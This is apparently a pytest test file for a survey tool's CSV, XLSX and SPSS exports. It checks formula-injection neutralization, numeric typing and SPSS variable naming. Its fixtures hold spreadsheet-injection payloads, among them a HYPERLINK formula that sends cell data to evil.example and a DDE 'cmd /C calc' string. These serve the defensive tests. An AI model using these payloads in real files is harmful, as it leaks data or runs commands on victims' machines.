"""Exports under hostile answers and awkward ids, on SQLite and PostgreSQL: formula-like
text is neutralized in CSV (wide and long) and XLSX (no <f> element anywhere, text cells
are strings), numbers stay numbers, and the .sav file gets valid, unique SPSS names with
the original ids kept as variable labels (read back with pyreadstat)."""
import csv
import io
import re
import zipfile

import numpy as np
import pandas as pd
import pytest
from sqlalchemy.orm import Session

from models.exports import export_wave, neutralize, neutralize_row, spss_names
from models.questionnaire import parse_questionnaire
from models.storage import bulk_insert_responses, create_wave, make_engine, register_questionnaire, upgrade

LONG_ID = "q" * 64  # the longest id a questionnaire allows; "__option" takes it past SPSS's 64 bytes
QUESTIONNAIRE = f"""\
id: hostile
version: 1
default_language: en
title: Hostile
scales:
  five: {{min: 1, max: 5}}
pages:
  - id: p1
    questions:
      - {{id: sat, type: rating, scale: five, text: "Satisfied?"}}
      - {{id: note, type: text, required: false, text: "=Anything else?"}}
      - {{id: spend, type: number, min: -1000, max: 1000, text: Spend}}
      - id: pick
        type: single_choice
        text: Pick
        options:
          - {{value: "-1", label: Minus one}}
          - {{value: "a b", label: With a space}}
          - {{value: "=x", label: Formula-like}}
      - id: {LONG_ID}
        type: multiple_choice
        required: false
        text: "Which?"
        options:
          - {{value: "x-y", label: Dash}}
          - {{value: "x y", label: Space}}
          - {{value: "x_y", label: Underscore}}
"""
HOSTILE_TEXT = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1",
                "-5", "a bare CR\r=2+2 inside"]


@pytest.fixture
def wave(database_url):
    engine = make_engine(database_url)
    upgrade(engine)
    questionnaire = parse_questionnaire(QUESTIONNAIRE, "hostile.yaml")
    with Session(engine, expire_on_commit=False) as session:
        survey = register_questionnaire(session, questionnaire)
        wave = create_wave(session, survey, "W1")
        session.commit()
    n = len(HOSTILE_TEXT)
    answers = pd.DataFrame({
        "sat": np.arange(n) % 5 + 1.0,
        "note": HOSTILE_TEXT,
        "spend": [-5.0, 12.5] * (n // 2),
        "pick": ["-1", "a b", "=x", "-1"] * (n // 4),
        LONG_ID: [["x-y"], ["x y", "x_y"], [], ["x-y", "x y", "x_y"]] * (n // 4),
    })
    bulk_insert_responses(engine, survey, wave, answers)
    yield engine, questionnaire
    engine.dispose()


def formula_like(value) -> bool:
    """Text a spreadsheet would evaluate (a plain number such as -5 is just a number)."""
    return (isinstance(value, str) and value[:1] in ("=", "+", "-", "@", "\t", "\r")
            and not re.fullmatch(r"-?[0-9]+(\.[0-9]+)?", value))


@pytest.mark.parametrize("value, expected", [
    ("=1+1", "'=1+1"), ("+1", "+1"), ("+1+1", "'+1+1"), ("-5", "-5"), ("-2.5e3", "-2.5e3"), ("-2+3", "'-2+3"),
    ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("plain", "plain"), ("", ""), (-5.0, -5.0),
    (3, 3), (None, None), ("- item", "'- item"),
])
def test_neutralize(value, expected):
    assert neutralize(value) == expected


def test_neutralize_row_for_csv_writers():
    assert neutralize_row(["=cmd|' /C calc'!A0", 1, "ok"]) == ["'=cmd|' /C calc'!A0", 1, "ok"]


@pytest.mark.parametrize("layout", ["wide", "long"])
def test_csv_export_neutralizes_text_and_keeps_numbers(wave, layout):
    engine, questionnaire = wave
    data, mimetype = export_wave(engine, questionnaire, "W1", "csv", layout)
    assert mimetype == "text/csv"
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if formula_like(c)], [c for c in cells if formula_like(c)]
    for text in HOSTILE_TEXT:  # each one cell (a CR inside a cell is quoted, not a row break)
        assert (text if not formula_like(text) else "'" + text) in cells, text
    # 7 columns once the 3 choices are split; an empty choice list is no answer (as a page
    # posted with no box ticked), so two responses have no rows for the 3 choice columns.
    assert len(rows) == 1 + (8 if layout == "wide" else 8 * 7 - 2 * 3)
    assert "'=x" in cells and "-1" in cells  # an option value that looks like a formula, one that is a number
    frame = pd.read_csv(io.BytesIO(data), encoding="utf-8-sig")
    if layout == "wide":
        assert frame["spend"].dtype == float and (frame["spend"] == [-5.0, 12.5] * 4).all()
        assert "'=Anything else?" not in frame.columns  # headers are ids, safe; their labels are in the xlsx
    else:
        spend = frame.loc[frame["question_id"] == "spend", "value"].astype(float)
        assert sorted(spend.unique()) == [-5.0, 12.5]


@pytest.mark.parametrize("layout", ["wide", "long"])
def test_csv_writes_whole_numbers_as_integers(wave, layout):
    # Before: every number as a decimal ("3.0", a chosen option "1.0"), against docs/exports.md.
    engine, questionnaire = wave
    rows = list(csv.DictReader(io.StringIO(export_wave(engine, questionnaire, "W1", "csv", layout)[0]
                                           .decode("utf-8-sig"), newline="")))
    if layout == "wide":
        assert [r["sat"] for r in rows] == ["1", "2", "3", "4", "5", "1", "2", "3"]
        assert [r["spend"] for r in rows] == ["-5", "12.5"] * 4  # a fraction stays as it is
        assert [r[f"{LONG_ID}__x y"] for r in rows] == ["0", "1", "", "1"] * 2  # "" = not answered
        assert [r[f"{LONG_ID}__x-y"] for r in rows] == ["1", "0", "", "1"] * 2
        assert not [cell for r in rows for cell in r.values() if cell.endswith(".0")]
    else:
        values = {(r["response_id"], r["question_id"]): r["value"] for r in rows}
        first = rows[0]["response_id"]
        assert values[(first, "sat")] == "1" and values[(first, "spend")] == "-5"
        assert sorted({v for (_, q), v in values.items() if q == "spend"}) == ["-5", "12.5"]
        assert not [v for v in values.values() if re.fullmatch(r"-?\d+\.0", v)]


def xlsx_parts(data: bytes) -> dict[str, str]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name).decode("utf-8") for name in archive.namelist() if name.endswith(".xml")}


@pytest.mark.parametrize("layout", ["wide", "long"])
def test_xlsx_export_has_no_formula_and_keeps_numbers(wave, layout):
    import openpyxl
    engine, questionnaire = wave
    data, _ = export_wave(engine, questionnaire, "W1", "xlsx", layout)
    parts = xlsx_parts(data)
    sheets = {name: xml for name, xml in parts.items() if name.startswith("xl/worksheets/")}
    assert len(sheets) == 2
    for name, xml in sheets.items():
        assert not re.search(r"<(?:\w+:)?f[ >]", xml), name  # no formula element at all
    book = openpyxl.load_workbook(io.BytesIO(data))
    responses, variables = book["responses"], book["variables"]
    values = [cell.value for row in responses.iter_rows() for cell in row]
    assert not [v for v in values if formula_like(v)]
    assert all(cell.data_type != "f" for row in responses.iter_rows() for cell in row)
    assert "'" + HOSTILE_TEXT[0] in values and "'-2+3" in values and "-5" in values
    assert -5 in values and 12.5 in values  # numeric cells, not text
    header = [cell.value for cell in responses[1]]
    if layout == "wide":
        spend = header.index("spend")
        assert [row[spend].data_type for row in responses.iter_rows(min_row=2)] == ["n"] * 8
    labels = [cell.value for row in variables.iter_rows() for cell in row]
    assert "'=Anything else?" in labels  # the questionnaire's own text is neutralized too


def test_xlsx_export_of_control_characters_does_not_fail(database_url):
    engine = make_engine(database_url)
    upgrade(engine)
    questionnaire = parse_questionnaire(QUESTIONNAIRE, "hostile.yaml")
    with Session(engine, expire_on_commit=False) as session:
        survey = register_questionnaire(session, questionnaire)
        wave = create_wave(session, survey, "W1")
        session.commit()
    bulk_insert_responses(engine, survey, wave, pd.DataFrame({"sat": [1.0], "note": ["bell\x07 and \x1b[31m"]}))
    import openpyxl
    data, _ = export_wave(engine, questionnaire, "W1", "xlsx")
    values = [c.value for row in openpyxl.load_workbook(io.BytesIO(data))["responses"].iter_rows() for c in row]
    assert "bell\ufffd and \ufffd[31m" in values
    engine.dispose()


def test_sav_export_gets_valid_unique_names_with_original_labels(wave, tmp_path):
    import pyreadstat
    engine, questionnaire = wave
    data, _ = export_wave(engine, questionnaire, "W1", "sav")
    path = tmp_path / "w.sav"
    path.write_bytes(data)
    frame, meta = pyreadstat.read_sav(str(path))
    names = meta.column_names
    assert len({n.upper() for n in names}) == len(names)
    assert all(len(n.encode()) <= 64 and re.fullmatch(r"[A-Za-z][A-Za-z0-9_.@#$]*", n) for n in names), names
    labels = dict(zip(names, meta.column_labels))
    assert labels["sat"] == "Satisfied?" and labels["pick"] == "Pick"  # valid names are kept as they are
    renamed = {name: label for name, label in labels.items() if label and label.startswith(LONG_ID + "__")}
    assert sorted(label.split(":")[0] for label in renamed.values()) == [f"{LONG_ID}__x y", f"{LONG_ID}__x-y",
                                                                           f"{LONG_ID}__x_y"]
    assert all(label.endswith("[Dash]") or label.endswith("[Space]") or label.endswith("[Underscore]")
               for label in renamed.values())
    # The 0/1 columns survive the renaming with their values.
    by_original = {label.split(":")[0]: name for name, label in renamed.items()}
    # (the empty choice list of the third response is no answer: missing, not "not chosen")
    assert frame[by_original[f"{LONG_ID}__x-y"]].fillna(-1).tolist() == [1.0, 0.0, -1, 1.0] * 2
    assert frame[by_original[f"{LONG_ID}__x y"]].fillna(-1).tolist() == [0.0, 1.0, -1, 1.0] * 2
    assert meta.variable_value_labels["pick"] == {"-1": "Minus one", "a b": "With a space", "=x": "Formula-like"}
    assert frame["note"].tolist() == HOSTILE_TEXT  # .sav keeps answers verbatim: SPSS evaluates nothing
    assert frame["spend"].tolist() == [-5.0, 12.5] * 4


def test_sav_long_layout_reads_back(wave, tmp_path):
    import pyreadstat
    engine, questionnaire = wave
    path = tmp_path / "long.sav"
    path.write_bytes(export_wave(engine, questionnaire, "W1", "sav", "long")[0])
    frame, meta = pyreadstat.read_sav(str(path))
    assert meta.column_names == ["response_id", "question_id", "value"]
    assert set(frame["question_id"]) >= {"sat", "note", "spend", "pick"}


@pytest.mark.parametrize("columns, expected", [
    (["a-b", "a_b"], {"a_b": "a_b", "a-b": "a_b_2"}),
    (["x y", "x-y", "x_y"], {"x_y": "x_y", "x y": "x_y_2", "x-y": "x_y_3"}),
    (["1st", "_x", "all", "AND", "ok."], {"1st": "v1st", "_x": "v_x", "all": "all_", "AND": "AND_", "ok.": "ok"}),
    (["A", "a"], {"A": "A", "a": "a_2"}),
    (["b" * 70, "b" * 71], {"b" * 70: "b" * 64, "b" * 71: "b" * 62 + "_2"}),
    (["北京", "上海"], {"北京": "v__", "上海": "v___2"}),
])
def test_spss_names(columns, expected):
    assert spss_names(columns) == expected
    assert spss_names(list(columns)) == spss_names(columns)  # deterministic
